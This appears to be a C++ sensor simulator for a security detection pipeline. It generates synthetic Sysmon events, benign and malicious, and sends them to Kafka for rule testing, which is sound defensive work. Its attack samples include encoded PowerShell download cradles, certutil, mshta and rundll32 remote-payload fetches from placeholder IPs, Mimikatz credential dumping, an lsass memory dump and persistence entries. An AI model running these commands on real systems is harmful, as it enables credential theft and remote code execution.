#include "vigil/ingest/simulator.h"

#include <librdkafka/rdkafka.h>
#include <rapidjson/stringbuffer.h>
#include <rapidjson/writer.h>

#include <algorithm>
#include <array>
#include <chrono>
#include <cstdio>
#include <thread>
#include <vector>

namespace vigil::ingest {
namespace {

constexpr char kSysmonChannel[] = "Microsoft-Windows-Sysmon/Operational";

struct ProcessTemplate {
  const char* parent;
  const char* image;
  const char* command_line;
  const char* rule_id;  // nullptr: benign
};

// Everyday Windows activity. None of it may trigger a default rule.
constexpr std::array kBenignProcesses = {
    ProcessTemplate{"C:\\Windows\\explorer.exe",
                    "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
                    "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" "
                    "--profile-directory=Default",
                    nullptr},
    ProcessTemplate{"C:\\Windows\\System32\\services.exe", "C:\\Windows\\System32\\svchost.exe",
                    "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", nullptr},
    ProcessTemplate{"C:\\Windows\\explorer.exe",
                    "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                    "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n "
                    "\"C:\\Users\\{user}\\Documents\\Q3 report.docx\"",
                    nullptr},
    ProcessTemplate{"C:\\Windows\\explorer.exe", "C:\\Windows\\System32\\cmd.exe",
                    "\"C:\\Windows\\system32\\cmd.exe\"", nullptr},
    ProcessTemplate{"C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\conhost.exe",
                    "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", nullptr},
    ProcessTemplate{"C:\\Windows\\explorer.exe",
                    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                    "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoProfile "
                    "-File C:\\Scripts\\inventory.ps1",
                    nullptr},
    ProcessTemplate{"C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\System32\\taskhostw.exe",
                    "taskhostw.exe KEYROAMING", nullptr},
    ProcessTemplate{"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
                    "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                    "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n /dde",
                    nullptr},
    ProcessTemplate{"C:\\Windows\\System32\\svchost.exe",
                    "C:\\Windows\\System32\\backgroundTaskHost.exe",
                    "\"C:\\Windows\\system32\\backgroundTaskHost.exe\" "
                    "-ServerName:BackgroundTaskHost.WebAccountProvider",
                    nullptr},
    ProcessTemplate{"C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\System32\\certutil.exe",
                    "certutil -verify -urlfetch C:\\Windows\\Temp\\root.cer", nullptr},
    ProcessTemplate{"C:\\Windows\\System32\\services.exe", "C:\\Windows\\System32\\msiexec.exe",
                    "C:\\Windows\\system32\\msiexec.exe /V", nullptr},
    ProcessTemplate{
        "C:\\Windows\\System32\\SearchIndexer.exe", "C:\\Windows\\System32\\SearchFilterHost.exe",
        "\"C:\\Windows\\system32\\SearchFilterHost.exe\" 0 740 744 752 8192 748", nullptr},
};

// Process access (Sysmon 10), the bulk of a real Sysmon stream (over 70% of the recorded lab
// traffic in ../shared/corpus/otrf): agents and system services opening other processes with
// query rights. None targets lsass.exe.
struct AccessTemplate {
  const char* source;
  const char* target;
  const char* access;
};
constexpr std::array kBenignAccess = {
    AccessTemplate{"C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\System32\\RuntimeBroker.exe",
                   "0x1400"},
    AccessTemplate{"C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\System32\\taskhostw.exe",
                   "0x1000"},
    AccessTemplate{"C:\\Program Files\\Windows Defender\\MsMpEng.exe",
                   "C:\\Windows\\System32\\svchost.exe", "0x1000"},
    AccessTemplate{"C:\\Program Files\\Windows Defender\\MsMpEng.exe",
                   "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "0x1000"},
    AccessTemplate{"C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\System32\\conhost.exe",
                   "0x1400"},
    AccessTemplate{"C:\\Windows\\explorer.exe", "C:\\Windows\\System32\\fontdrvhost.exe", "0x1000"},
};

// Image loads (Sysmon 7): common processes loading system DLLs.
constexpr std::array kBenignLoaders = {
    "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
    "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
    "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\System32\\conhost.exe",
    "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"};
constexpr std::array kBenignDlls = {
    "C:\\Windows\\System32\\ntdll.dll",      "C:\\Windows\\System32\\kernel32.dll",
    "C:\\Windows\\System32\\KernelBase.dll", "C:\\Windows\\System32\\combase.dll",
    "C:\\Windows\\System32\\SHCore.dll",     "C:\\Windows\\System32\\ucrtbase.dll",
    "C:\\Windows\\System32\\user32.dll",     "C:\\Windows\\System32\\msvcrt.dll"};

// Attacks, each with the default rule that must detect it.
constexpr std::array kMaliciousProcesses = {
    ProcessTemplate{
        "C:\\Windows\\System32\\cmd.exe",
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "powershell.exe -nop -w hidden -enc "
        "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
        "b0b45200-2144-447e-a69d-ebce804a3864"},
    ProcessTemplate{
        "C:\\Windows\\System32\\wscript.exe",
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "powershell /EncodedCommand JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwAtAE8AYgBqAGUAYwB0AA== ",
        "b0b45200-2144-447e-a69d-ebce804a3864"},
    ProcessTemplate{"C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\certutil.exe",
                    "certutil.exe -urlcache -split -f http://198.51.100.23/payload.bin "
                    "C:\\Users\\Public\\p.exe",
                    "600b4d6f-49fb-4e4b-a78d-6352d47d7b7f"},
    ProcessTemplate{"C:\\Windows\\System32\\cmd.exe", "C:\\Users\\Public\\m64.exe",
                    "m64.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit",
                    "4bdfa4d6-11cc-4460-9aee-0cf814659c62"},
    ProcessTemplate{"C:\\Windows\\System32\\cmd.exe", "C:\\Tools\\procdump64.exe",
                    "procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\l.dmp",
                    "1772ac8f-4450-424c-b772-d9e5ce5ba72c"},
    ProcessTemplate{"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                    "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c start /b %TEMP%\\invoice.exe",
                    "0f6d99b9-cc13-478f-a882-437e9195ff00"},
    ProcessTemplate{"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
                    "C:\\Windows\\System32\\mshta.exe", "mshta.exe http://203.0.113.9/a.hta",
                    "0f6d99b9-cc13-478f-a882-437e9195ff00"},
    ProcessTemplate{"C:\\Windows\\explorer.exe", "C:\\Windows\\System32\\rundll32.exe",
                    "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication "
                    "\";document.write();GetObject(\"script:http://203.0.113.9/x.sct\")",
                    "ea9efc16-26ac-40c6-a5c7-b8665849e4f5"},
    ProcessTemplate{"C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\whoami.exe",
                    "whoami /priv", "1fc0eb53-c7e0-4dbf-8eb6-dddb8f1a094e"},
    ProcessTemplate{"C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\whoami.exe",
                    "whoami -all", "1fc0eb53-c7e0-4dbf-8eb6-dddb8f1a094e"},
};

constexpr std::array kUsers = {"alice", "bob",   "carol", "dave", "erin",
                               "frank", "grace", "heidi", "ivan", "judy"};
constexpr std::array kDomains = {
    "www.bing.com", "login.microsoftonline.com", "outlook.office365.com", "update.googleapis.com",
    "github.com",   "ctldl.windowsupdate.com",   "intranet.corp.example"};

class JsonEvent {
 public:
  explicit JsonEvent(rapidjson::StringBuffer& buf) : w_(buf) { w_.StartObject(); }
  JsonEvent& str(const char* k, std::string_view v) {
    w_.Key(k);
    w_.String(v.data(), static_cast<rapidjson::SizeType>(v.size()));
    return *this;
  }
  JsonEvent& num(const char* k, int64_t v) {
    w_.Key(k);
    w_.Int64(v);
    return *this;
  }
  void end() { w_.EndObject(); }

 private:
  rapidjson::Writer<rapidjson::StringBuffer> w_;
};

std::string replace_user(std::string s, std::string_view user) {
  const std::string token = "{user}";
  for (size_t p; (p = s.find(token)) != std::string::npos;) s.replace(p, token.size(), user);
  return s;
}

}  // namespace

SensorSimulator::SensorSimulator(const SimulatorOptions& options, const Clock& clock)
    : options_(options), clock_(clock), rng_(options.seed) {}

void SensorSimulator::next(SimulatedEvent& out) {
  std::uniform_real_distribution<double> u(0, 1);
  if (u(rng_) < options_.malicious_ratio)
    malicious(out);
  else
    benign(out);
}

void SensorSimulator::next_malicious(SimulatedEvent& out) { malicious(out); }

namespace {

struct Common {
  std::string host, user, time, guid;
  int64_t pid;
};

// The host, user, time and process identity every event of one simulated action shares.
Common make_common(std::mt19937_64& rng, int hosts, uint64_t sequence, const Clock& clock) {
  std::uniform_int_distribution<int> host_d(1, hosts);
  std::uniform_int_distribution<size_t> user_d(0, kUsers.size() - 1);
  Common c;
  char buf[64];
  std::snprintf(buf, sizeof buf, "WS-%04d.corp.example", host_d(rng));
  c.host = buf;
  c.user = kUsers[user_d(rng)];
  c.time = format_rfc3339(clock.now_ms());
  std::snprintf(buf, sizeof buf, "{%08llx-0000-0000-0000-%012llx}",
                static_cast<unsigned long long>(sequence & 0xffffffff),
                static_cast<unsigned long long>(rng() & 0xffffffffffffULL));
  c.guid = buf;
  c.pid = static_cast<int64_t>(1000 + rng() % 30000);
  return c;
}

void write_header(JsonEvent& e, const Common& c, int event_id) {
  e.str("@timestamp", c.time).str("Hostname", c.host).str("Channel", kSysmonChannel);
  e.str("Provider_Name", "Microsoft-Windows-Sysmon")
      .num("EventID", event_id)
      .str("UtcTime", c.time);
  e.str("ProcessGuid", c.guid).num("ProcessId", c.pid).str("User", "CORP\\" + c.user);
}

void write_process(JsonEvent& e, const Common& c, const ProcessTemplate& t) {
  write_header(e, c, 1);
  e.str("Image", t.image).str("CommandLine", replace_user(t.command_line, c.user));
  e.str("ParentImage", t.parent).str("CurrentDirectory", "C:\\Users\\" + c.user + "\\");
  e.str("IntegrityLevel", "Medium")
      .str("Hashes", "SHA256=9F2B5F9A0C2F1D8E7B6A5C4D3E2F1A0B9C8D7E6F5A4B3C2D1E0F9A8B7C6D5E4F");
}

}  // namespace

void SensorSimulator::benign(SimulatedEvent& out) {
  std::uniform_int_distribution<int> kind_d(0, 99);
  Common c = make_common(rng_, options_.hosts, ++sequence_, clock_);
  char buf[64];

  rapidjson::StringBuffer sb;
  JsonEvent e(sb);
  // The channel mix of real endpoints (Sysmon on the lab hosts of ../shared/corpus/otrf:
  // process access first, then image loads and registry), values repeating as they do there.
  const int kind = kind_d(rng_);
  if (kind < 40) {
    const auto& t = kBenignAccess[rng_() % kBenignAccess.size()];
    write_header(e, c, 10);
    e.str("SourceImage", t.source).str("TargetImage", t.target).str("GrantedAccess", t.access);
    e.str("SourceProcessGUID", c.guid).num("SourceProcessId", c.pid);
    e.str("CallTrace",
          "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e");
  } else if (kind < 55) {
    write_header(e, c, 7);
    e.str("Image", kBenignLoaders[rng_() % kBenignLoaders.size()]);
    e.str("ImageLoaded", kBenignDlls[rng_() % kBenignDlls.size()]);
    e.str("Signed", "true").str("Signature", "Microsoft Windows").str("SignatureStatus", "Valid");
  } else if (kind < 67) {
    std::uniform_int_distribution<size_t> t(0, kBenignProcesses.size() - 1);
    write_process(e, c, kBenignProcesses[t(rng_)]);
  } else if (kind < 79) {
    write_header(e, c, 3);
    std::snprintf(buf, sizeof buf, "10.%d.%d.%d", static_cast<int>(rng_() % 8),
                  static_cast<int>(rng_() % 250), static_cast<int>(1 + rng_() % 250));
    e.str("Image", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe")
        .str("Protocol", "tcp")
        .str("Initiated", "true");
    e.str("SourceIp", buf).num("SourcePort", static_cast<int64_t>(49152 + rng_() % 16000));
    e.str("DestinationIp", "93.184.215.14")
        .str("DestinationHostname", kDomains[rng_() % kDomains.size()]);
    e.num("DestinationPort", rng_() % 2 ? 443 : 80);
  } else if (kind < 87) {
    write_header(e, c, 11);
    e.str("Image", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE");
    std::snprintf(buf, sizeof buf, "~$draft-%u.docx", static_cast<unsigned>(rng_() % 100000));
    e.str("TargetFilename", "C:\\Users\\" + c.user + "\\Documents\\" + buf);
  } else if (kind < 95) {
    write_header(e, c, 13);
    e.str("EventType", "SetValue").str("Image", "C:\\Windows\\System32\\svchost.exe");
    e.str("TargetObject",
          "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Signature "
          "Updates\\SignatureUpdateLastAttempted");
    e.str("Details", "QWORD (0x01db3c6f-0x9d8e2a10)");
  } else {
    write_header(e, c, 22);
    e.str("Image", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe");
    e.str("QueryName", kDomains[rng_() % kDomains.size()])
        .str("QueryStatus", "0")
        .str("QueryResults", "type: 5 93.184.215.14;");
  }
  e.end();
  out.json.assign(sb.GetString(), sb.GetSize());
  out.host = std::move(c.host);
  out.expected_rule_id.clear();
}

void SensorSimulator::malicious(SimulatedEvent& out) {
  Common c = make_common(rng_, options_.hosts, ++sequence_, clock_);

  rapidjson::StringBuffer sb;
  JsonEvent e(sb);
  const size_t kinds = kMaliciousProcesses.size() + 4;
  const size_t kind = rng_() % kinds;
  if (kind < kMaliciousProcesses.size()) {
    const auto& t = kMaliciousProcesses[kind];
    write_process(e, c, t);
    out.expected_rule_id = t.rule_id;
  } else if (kind == kMaliciousProcesses.size()) {
    write_header(e, c, 3);
    e.str("Image", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe")
        .str("Protocol", "tcp")
        .str("Initiated", "true");
    e.str("SourceIp", "10.1.2.3")
        .num("SourcePort", 50123)
        .str("DestinationIp", "198.51.100.23")
        .num("DestinationPort", 4444);
    out.expected_rule_id = "3ca036c5-5e3d-407e-8582-6a5876402de0";
  } else if (kind == kMaliciousProcesses.size() + 1) {
    write_header(e, c, 13);
    e.str("EventType", "SetValue").str("Image", "C:\\Windows\\System32\\reg.exe");
    e.str("TargetObject",
          "HKU\\S-1-5-21-1004\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveSync");
    e.str("Details", "C:\\Users\\" + c.user + "\\AppData\\Local\\Temp\\onedrive_sync.exe");
    out.expected_rule_id = "4abecf1f-1bdd-428d-b470-698fb17dc78b";
  } else if (kind == kMaliciousProcesses.size() + 2) {
    write_header(e, c, 22);
    e.str("Image", "C:\\Users\\Public\\svc.exe")
        .str("QueryName", "nights-mouse-ranges-bird.trycloudflare.com");
    e.str("QueryStatus", "0").str("QueryResults", "type: 5 3.134.39.220;");
    out.expected_rule_id = "4186ec2e-19f6-4b70-b390-bc1e81e5a620";
  } else {
    write_header(e, c, 11);
    e.str("Image", "C:\\Windows\\System32\\wscript.exe");
    e.str("TargetFilename",
          "C:\\Users\\" + c.user +
              "\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\update.vbs");
    out.expected_rule_id = "58f89590-ca2e-461c-9ae4-ca62c8d54e27";
  }
  e.end();
  out.json.assign(sb.GetString(), sb.GetSize());
  out.host = std::move(c.host);
}

Status run_simulator(const ProduceOptions& produce, SensorSimulator& sim,
                     const std::atomic<bool>& stop, MetricsRegistry& metrics) {
  char err[512];
  rd_kafka_conf_t* conf = rd_kafka_conf_new();
  const std::pair<const char*, std::string> settings[] = {{"bootstrap.servers", produce.brokers},
                                                          {"client.id", "vigil-simulator"},
                                                          {"linger.ms", "5"},
                                                          {"enable.idempotence", "true"},
                                                          {"log_level", "4"}};
  for (const auto& [k, v] : settings) {
    if (rd_kafka_conf_set(conf, k, v.c_str(), err, sizeof err) != RD_KAFKA_CONF_OK) {
      rd_kafka_conf_destroy(conf);
      return Status::invalid(std::string("simulator producer config ") + k + ": " + err);
    }
  }
  rd_kafka_t* rk = rd_kafka_new(RD_KAFKA_PRODUCER, conf, err, sizeof err);
  if (!rk) return Status::invalid(std::string("cannot create the simulator producer: ") + err);

  Counter& produced = metrics.counter("vigil_simulator_events_total",
                                      "Events the built-in sensor simulator produced");
  SimulatedEvent ev;
  const auto start = std::chrono::steady_clock::now();
  uint64_t sent = 0;
  Status result;
  while (!stop.load(std::memory_order_relaxed) &&
         (produce.max_events == 0 || sent < produce.max_events)) {
    if (produce.rate > 0) {
      const auto due =
          start + std::chrono::duration_cast<std::chrono::steady_clock::duration>(
                      std::chrono::duration<double>(static_cast<double>(sent) / produce.rate));
      const auto now = std::chrono::steady_clock::now();
      if (due > now) {
        rd_kafka_poll(rk, 0);
        // At least 10 ms: the events due meanwhile then leave together, instead of one
        // wake-up per event (2,000 a second at the default rate) taking CPU from the rest.
        std::this_thread::sleep_for(std::clamp<std::chrono::steady_clock::duration>(
            due - now, std::chrono::milliseconds(10), std::chrono::milliseconds(100)));
        continue;
      }
    }
    sim.next(ev);
    const auto e = rd_kafka_producev(rk, RD_KAFKA_V_TOPIC(produce.topic.c_str()),
                                     RD_KAFKA_V_VALUE(ev.json.data(), ev.json.size()),
                                     RD_KAFKA_V_KEY(ev.host.data(), ev.host.size()),
                                     RD_KAFKA_V_MSGFLAGS(RD_KAFKA_MSG_F_COPY), RD_KAFKA_V_END);
    if (e == RD_KAFKA_RESP_ERR__QUEUE_FULL) {
      rd_kafka_poll(rk, 50);
      continue;  // the same event is generated afresh; the stream stays realistic
    }
    if (e) {
      result = Status::unavailable(std::string("simulator produce failed: ") + rd_kafka_err2str(e));
      break;
    }
    ++sent;
    produced.inc();
    rd_kafka_poll(rk, 0);
  }
  rd_kafka_flush(rk, 10'000);
  rd_kafka_destroy(rk);
  return result;
}

}  // namespace vigil::ingest
